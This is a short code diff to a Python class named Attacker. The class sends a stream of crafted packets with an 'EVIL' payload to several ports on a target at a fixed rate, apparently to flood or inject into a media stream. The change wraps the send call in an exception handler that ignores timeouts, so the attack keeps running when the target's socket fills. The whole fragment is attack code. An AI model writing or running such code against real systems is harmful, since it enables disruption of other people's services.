@@ -36,8 +36,11 @@ class Attacker:
         payload, due, count = EVIL * 40, time.monotonic(), 0
         while self.running:
             for port in PORTS:
-                self.socket.sendto(packet(count, count * 160, sources[port], payload), (self.target, port))
-                self.sent += 1
+                try:
+                    self.socket.sendto(packet(count, count * 160, sources[port], payload), (self.target, port))
+                    self.sent += 1
+                except TimeoutError:
+                    pass  # The machine is busy and the socket full: the next one.
             count, due = count + 1, due + 0.01
             time.sleep(max(0, due - time.monotonic()))
 
